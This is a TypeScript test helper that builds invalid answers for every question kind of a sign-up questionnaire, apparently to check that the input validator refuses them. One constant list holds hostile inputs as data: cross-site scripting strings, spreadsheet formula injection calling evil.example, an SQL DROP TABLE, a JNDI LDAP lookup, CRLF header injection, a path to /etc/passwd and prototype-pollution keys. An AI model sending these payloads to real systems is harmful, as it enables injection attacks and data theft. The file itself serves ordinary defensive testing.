import { type Question, type Questionnaire, questionsOf } from '#questionnaire/question.ts'

/** What must become of something that is sent: `either` where only the store can tell. */
export type Fate = 'stored' | 'refused' | 'either'

/** A wrong answer as JSON text; null for one that is left out. */
export interface Flaw {
  name: string
  json: string | null
  fate: Fate
}

/** Stands in every text that could be mistaken for markup: no page may ever have it unescaped. */
export const MARK = 'hx-echo'

/** What people paste, what spreadsheets and browsers run, and what breaks programs that count letters. */
export const NASTY_TEXTS = [
  `"><${MARK} onload=alert(1)>`,
  `</textarea><${MARK}><script>alert(1)</script>`,
  `javascript:alert("<${MARK}>")`,
  '=HYPERLINK("http://evil.example","x")',
  '＝cmd|calc',
  '@SUM(1+1)*cmd',
  "'; DROP TABLE sign_ups; --",
  '{{7*7}}$\u007bjndi:ldap://evil.example/a}',
  'a\u0000b',
  '\ud800',
  'x\udfff\ud83d',
  '\u202egnihtyna\u2066\u2069',
  'Z\u0335\u0334\u0336\u0337a\u0335\u0334lgo',
  'e\u0301'.repeat(400),
  '\ufeff\u200b\u00ad',
  'line\r\nSet-Cookie: binome=evil',
  '%0d%0aLocation:%20//evil.example',
  '../../../etc/passwd',
  '__proto__',
  'constructor',
  '٣',
  'x'.repeat(60_000),
] as const

const text = (value: unknown): string => JSON.stringify(value)

/** Whatever the kind, none of these is an answer that could be meant. */
function anyFlaws(question: Question): Flaw[] {
  const refusedWhereNeeded: Fate = question.required ? 'refused' : 'either'
  return [
    { name: 'missing', json: null, fate: refusedWhereNeeded },
    { name: 'null', json: 'null', fate: refusedWhereNeeded },
    { name: 'empty text', json: '""', fate: refusedWhereNeeded },
    { name: 'empty object', json: '{}', fate: refusedWhereNeeded },
    { name: 'endless number', json: '1e999', fate: 'either' },
    { name: 'number beyond 2^53', json: '90071992547409931234567', fate: 'either' },
    { name: 'nested lists', json: `${'['.repeat(8)}"a"${']'.repeat(8)}`, fate: 'either' },
    // As deep as fits into what is read at all.
    { name: 'nested 31,000 deep', json: `${'['.repeat(31_000)}${']'.repeat(31_000)}`, fate: 'refused' },
    {
      name: 'prototype keys',
      json: '{"__proto__":{"level":4},"constructor":{"prototype":{"a":1}}}',
      fate: 'either',
    },
    { name: 'a list that pretends', json: '{"length":1000000000,"0":"fr"}', fate: 'either' },
    { name: 'toString', json: '{"toString":"a","valueOf":1}', fate: 'either' },
    { name: 'ten thousand times', json: `[${Array(10_000).fill('"a"').join()}]`, fate: 'refused' },
    ...NASTY_TEXTS.map((value) => ({
      name: `nasty ${text(value).slice(1, 20)}`,
      json: text(value),
      fate: 'either' as const,
    })),
  ]
}

/** A wrong answer of the right shape: out of range, too long, too many, unknown, twice. */
function kindFlaws(question: Question): Flaw[] {
  const refused = (name: string, value: unknown): Flaw => ({ name, json: text(value), fate: 'refused' })
  switch (question.kind) {
    case 'text':
    case 'long-text':
      return [
        refused('too long', 'é'.repeat(question.length_max + 1)),
        ...(question.length_min ? [refused('too short', 'é'.repeat(question.length_min - 1))] : []),
      ]
    case 'month':
      return ['2026-13', '2026-00', '26-01', 'yesterday', '2026-01-01'].map((value) =>
        refused(`month ${value}`, value),
      )
    case 'day':
      return ['2026-02-30', '2026-13-01', 'tomorrow', '2026-1-1'].map((value) =>
        refused(`day ${value}`, value),
      )
    case 'number':
      return [question.min - 1, question.max + 1, question.min + 0.5, -1e9, '1e0x', true].map((value) =>
        refused(`number ${value}`, value),
      )
    case 'choice':
    case 'list':
      return ['no-such-option', '__proto__', 'toString', -99].map((value) =>
        refused(`option ${value}`, value),
      )
    case 'choices':
      return [
        refused('unknown option', [question.options[0]?.value, 'no-such-option']),
        refused('a text for a list', 'no-such-option'),
        refused('a list in a list', [[question.options[0]?.value, 'zz']]),
        refused('far too many', Array(5_000).fill(question.options[0]?.value)),
      ]
    case 'agreement':
      return question.required
        ? [refused('no', false), refused('maybe', 'maybe')]
        : [refused('maybe', 'maybe')]
    case 'scale':
      return [0, 6, 3.5, '3.5', -1].map((value) => refused(`step ${value}`, value))
    case 'dots':
      return [-3, 3, 0.5, '+-1'].map((value) => refused(`dot ${value}`, value))
    case 'ranking': {
      const [first, second, third] = question.options.map(({ value }) => value)
      return [
        refused('three', [first, second, third]),
        refused('unknown', ['no-such-option']),
        refused('twice the same', [first, first]),
      ]
    }
    case 'workplace':
      return [
        refused('too long', { subsidiary: 'é'.repeat(question.length_max + 1) }),
        refused('unknown part', { subsidiary: 'A', planet: 'Mars' }),
      ]
    case 'availability': {
      const good = { weeks: 1, slots: ['mon-morning'], where: 'either', hours: question.hours_min }
      return [
        refused('unknown slot', { ...good, slots: ['mon-brunch'] }),
        refused('a slot of week B in one week', { ...good, slots: ['b-mon-morning'] }),
        refused('three weeks', { ...good, weeks: 3 }),
        refused('nowhere', { ...good, where: 'moon' }),
        refused('too few hours', { ...good, hours: question.hours_min - 1 }),
        refused('too many hours', { ...good, hours: question.hours_max + 1 }),
        refused('unknown part', { ...good, mood: 'good' }),
        refused('far too many slots', { ...good, slots: Array(4_000).fill('mon-morning') }),
        refused('slots as a text', { ...good, slots: 'mon-morning' }),
      ]
    }
    case 'topics':
      return [
        refused('unknown topic', ['no-such-topic']),
        refused('a topic of the prototype', ['constructor']),
        refused('far too many', Array(5_000).fill('ai-assistants')),
      ]
    case 'topics-offered':
    case 'topics-wanted': {
      const rest = question.kind === 'topics-offered' ? { level: 3, last: 3 } : { level: 1, target: 3 }
      const good = { topic: 'ai-assistants', facet: question.facets[0], ...rest }
      const last = question.kind === 'topics-offered' ? 'last' : 'target'
      return [
        refused('unknown topic', [{ ...good, topic: 'no-such-topic' }]),
        refused('a topic of the prototype', [{ ...good, topic: 'constructor' }]),
        refused('unknown facet', [{ ...good, facet: 'gossip' }]),
        refused('level above', [{ ...good, level: 5 }]),
        refused('level below', [{ ...good, level: -1 }]),
        refused('no level', [{ ...good, level: null }]),
        refused('beyond the scale', [{ ...good, [last]: 5 }]),
        refused('unknown part', [{ ...good, secret: true }]),
        refused(
          'too many',
          ['ai-assistants', 'negotiation', 'instagram', 'budget'].map((topic) => ({ ...good, topic })),
        ),
        refused('not a list', good),
      ]
    }
  }
}

/** Every wrong answer to every question of a questionnaire, as its own definition tells them. */
export function flawsOf(asked: Questionnaire): { key: string; flaw: Flaw }[] {
  return questionsOf(asked).flatMap((question) =>
    [...kindFlaws(question), ...anyFlaws(question)].map((flaw) => ({ key: question.key, flaw })),
  )
}
